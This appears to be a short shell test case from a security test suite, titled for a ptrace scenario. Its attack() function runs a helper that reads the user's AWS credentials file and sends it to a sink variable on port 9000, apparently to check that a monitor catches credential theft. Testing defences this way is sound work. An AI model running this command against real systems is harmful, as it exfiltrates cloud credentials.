# SPDX-License-Identifier: Apache-2.0
TITLE="ptrace of a holder that read the secret after it was attached to"
attack() { "$PROVOKE/holder" traced "$HOME/.aws/credentials" "$SINK4" 9000; }
